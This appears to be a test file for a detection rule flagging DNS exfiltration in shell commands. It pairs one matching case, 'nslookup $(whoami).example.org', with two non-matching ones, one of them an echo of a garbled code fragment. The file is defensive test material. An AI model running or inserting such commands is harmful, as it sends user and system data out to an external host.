# ruleid: shell_dns_exfiltration
nslookup $(whoami).example.org
# ok: shell_dns_exfiltration
nslookup example.org
# ok: shell_dns_exfiltration
echo "the language host currentDirectory`),C.assert(!Pp(t)||this.currentDirectory===r).example"
